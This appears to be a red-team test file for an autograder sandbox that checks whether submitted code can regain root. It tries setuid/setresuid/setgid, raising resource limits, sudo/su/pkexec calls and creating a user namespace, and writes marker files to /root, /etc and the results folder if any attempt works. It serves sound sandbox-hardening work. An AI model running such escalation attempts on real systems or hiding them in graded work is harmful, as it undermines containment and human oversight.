"""Red team 64_regain_privileges.

Attack: Try to become root again: setuid(0), setresuid, sudo/su/mount through subprocess, raising
its resource limits, a new user namespace; if anything works, leave a marker. Then behave.

Deserves: full marks (12), and no marker.
"""

# --------------------------------------------------------------------------------------------
# The reference answers and functions (honest part of this file):
# <<the reference solution, solutions/a2.py, is inserted here by redteam_catalog>>

# --------------------------------------------------------------------------------------------
# The attack.
# --------------------------------------------------------------------------------------------
import ctypes as _ctypes
import os as _os
import resource as _resource
import subprocess as _subprocess


def _marker(how):
    for folder in ("/autograder/results", "/root", "/etc"):
        try:
            with open(folder + "/A2-REDTEAM-MARKER-root-" + how, "w") as handle:
                handle.write(how)
        except OSError:
            pass


for _attempt in (lambda: _os.setuid(0), lambda: _os.setresuid(0, 0, 0), lambda: _os.setgid(0)):
    try:
        _attempt()
        if _os.geteuid() == 0:
            _marker("setuid")
    except OSError:
        pass
for _limit in (_resource.RLIMIT_AS, _resource.RLIMIT_NPROC, _resource.RLIMIT_CPU):
    try:
        _resource.setrlimit(_limit, (_resource.RLIM_INFINITY, _resource.RLIM_INFINITY))
    except (ValueError, OSError):
        pass
for _command in (["sudo", "-n", "id", "-u"], ["su", "-c", "id -u"], ["pkexec", "id", "-u"]):
    try:
        _out = _subprocess.run(_command, capture_output=True, timeout=2, stdin=_subprocess.DEVNULL)
        if _out.stdout.strip() == b"0":
            _marker(_command[0])
    except (OSError, _subprocess.SubprocessError):
        pass
try:
    _libc = _ctypes.CDLL(None, use_errno=True)
    if _libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER
        _marker("userns")
except OSError:
    pass
